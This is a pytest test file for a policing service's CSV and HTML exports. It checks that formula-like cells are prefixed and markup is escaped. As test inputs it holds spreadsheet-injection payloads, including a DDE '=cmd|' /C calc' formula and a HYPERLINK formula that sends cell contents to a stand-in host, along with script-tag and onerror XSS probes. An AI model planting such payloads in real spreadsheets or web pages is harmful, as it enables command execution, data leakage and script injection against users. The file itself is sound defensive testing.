"""CSV and HTML outputs: a value a caller or a policy author wrote is shown as text, never run as a spreadsheet
formula or as markup."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from service.api.schemas.spreadsheet import FORMULA_STARTS, csv_text, safe_cell, safe_csv
from service.main import create_app
from tests.helpers import POLICY_DIR, headers, make_settings

CSV = {**headers("planner"), "Accept": "text/csv"}


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_that_starts_a_formula_is_prefixed(start: str) -> None:
    assert safe_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


def test_other_cells_are_left_alone() -> None:
    for value in ("Kent", "", "PCSO 4521", "'=already text", " =spaced", "a=b", "WMP 2.8.3"):
        assert safe_cell(value) == value
    for number in (3, -5, 2.5, None):
        assert safe_cell(number) == number
    assert csv_text([["a", "-1", 7], ["=x", "line\nbreak", '"q"']]) == 'a,\'-1,7\r\n\'=x,"line\nbreak","""q"""\r\n'


def test_a_csv_written_elsewhere_is_made_safe_cell_by_cell() -> None:
    written = csv_text([["lpa", "review"], ["@SUM(1)", "=A1; PCSO 2"], ["birmingham-west", "line\none, two"]])
    assert written.startswith("lpa,review\r\n'@SUM(1),'=A1; PCSO 2\r\n")
    raw = 'lpa,review\r\n@SUM(1),"-2, +3"\r\nok,"multi\r\nline"\r\n'
    assert list(csv.reader(io.StringIO(safe_csv(raw), newline=""))) == [
        ["lpa", "review"],
        ["'@SUM(1)", "'-2, +3"],
        ["ok", "multi\r\nline"],
    ]
    assert safe_csv(safe_csv(raw)) == safe_csv(raw)


def test_the_abstraction_report_csv_neutralises_formulas(client: TestClient) -> None:
    hostile_lpa = "@SUM(A1:A9)"
    hostile_officer = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    for day in (2, 3, 4):
        body = {
            "force": "west-midlands",
            "officer_id": hostile_officer,
            "home_lpa": hostile_lpa,
            "reason": "other",
            "started_at": f"2026-11-0{day}T10:00:00Z",
            "hours": 1,
        }
        assert client.post("/v1/abstractions", json=body, headers=headers("planner")).status_code == 201
    other = {**body, "officer_id": "+44 7700 900123", "home_lpa": "-birmingham"}
    assert client.post("/v1/abstractions", json=other, headers=headers("planner")).status_code == 201
    response = client.get("/v1/reports/abstractions", params={"month": "2026-11"}, headers=CSV)
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = {row["lpa"]: row for row in csv.DictReader(io.StringIO(response.text, newline=""))}
    assert set(rows) == {"'@SUM(A1:A9)", "'-birmingham"}
    assert rows["'@SUM(A1:A9)"]["officers_for_review"].startswith("'=HYPERLINK(")
    assert rows["'@SUM(A1:A9)"]["abstractions"] == "3" and rows["'-birmingham"]["abstractions"] == "1"
    # JSON is not a spreadsheet: the values are as recorded.
    report = client.get("/v1/reports/abstractions", params={"month": "2026-11"}, headers=headers("planner")).json()
    by_lpa = {lpa["lpa"]: lpa for lpa in report["lpas"]}
    assert set(by_lpa) == {hostile_lpa, "-birmingham"}
    assert by_lpa[hostile_lpa]["officers_for_review"][0]["officer_id"] == hostile_officer


HOSTILE_NAMES = [
    "=cmd|' /C calc'!A0",
    '<script>alert("matrix")</script>',
    "'><img src=x onerror=alert(1)>",
    "+SUM(1,2) & more",
]


@pytest.fixture
def hostile_policy_client(tmp_path: Path, sqlite_url: str) -> Any:
    """The bundled policy with call-type, task, power and policy names a careless or hostile author might write."""
    policy_dir = tmp_path / "policy_data"
    shutil.copytree(POLICY_DIR, policy_dir)
    catalogue_path = policy_dir / "kent" / "call-types.json"
    catalogue = json.loads(catalogue_path.read_text(encoding="utf-8"))
    for entry, name in zip(catalogue["call_types"], HOSTILE_NAMES, strict=False):
        entry["name"] = name
    catalogue_path.write_text(json.dumps(catalogue), encoding="utf-8")
    tasks_path = policy_dir / "kent" / "tasks.json"
    tasks = json.loads(tasks_path.read_text(encoding="utf-8"))
    tasks["tasks"][0]["name"] = '<i>Covert</i> & "plain" clothes'
    tasks_path.write_text(json.dumps(tasks), encoding="utf-8")
    powers_path = policy_dir / "national" / "powers.json"
    powers = json.loads(powers_path.read_text(encoding="utf-8"))
    powers["powers"][0]["name"] = "<u>Penalty</u> notice for 'disorder'"
    powers_path.write_text(json.dumps(powers), encoding="utf-8")
    policy_path = policy_dir / "kent" / "policy.json"
    policy = json.loads(policy_path.read_text(encoding="utf-8"))
    policy["name"] = 'Kent <b>Police</b> & "Partners"'
    policy_path.write_text(json.dumps(policy), encoding="utf-8")
    with TestClient(create_app(make_settings(sqlite_url, policy_dir=policy_dir))) as test_client:
        yield test_client


def test_the_matrix_csv_neutralises_formulas(hostile_policy_client: TestClient) -> None:
    response = hostile_policy_client.get("/v1/policies/kent/matrix", headers=CSV)
    assert response.status_code == 200, response.text
    names = [row["name"] for row in csv.DictReader(io.StringIO(response.text, newline=""))]
    assert names[:4] == [
        "'=cmd|' /C calc'!A0",
        '<script>alert("matrix")</script>',
        "'><img src=x onerror=alert(1)>",
        "'+SUM(1,2) & more",
    ]
    assert not any(cell.startswith(FORMULA_STARTS) for row in csv.reader(io.StringIO(response.text, newline="")) for cell in row)
    as_json = hostile_policy_client.get("/v1/policies/kent/matrix", headers=headers("planner")).json()
    assert [row["name"] for row in as_json["rows"][:4]] == HOSTILE_NAMES


def test_the_matrix_page_escapes_every_value(hostile_policy_client: TestClient) -> None:
    response = hostile_policy_client.get("/v1/policies/kent/matrix.html", headers=headers("planner"))
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/html")
    page = response.text
    assert "<script" not in page and "<img" not in page and "<b>" not in page and "onerror=alert(1)>" not in page
    assert "&lt;script&gt;alert(&quot;matrix&quot;)&lt;/script&gt;" in page
    assert "&#x27;&gt;&lt;img src=x onerror=alert(1)&gt;" in page
    assert "Kent &lt;b&gt;Police&lt;/b&gt; &amp; &quot;Partners&quot;" in page
    # Task names head the columns and power names label the form's checkboxes.
    assert "<i>" not in page and "&lt;i&gt;Covert&lt;/i&gt; &amp; &quot;plain&quot; clothes" in page
    assert "<u>" not in page and "&lt;u&gt;Penalty&lt;/u&gt; notice for &#x27;disorder&#x27;" in page
    # The only markup is the page's own.
    assert page.count("<tr>") == 1 + len(
        hostile_policy_client.get("/v1/policies/kent/call-types", headers=headers("planner")).json()
    )
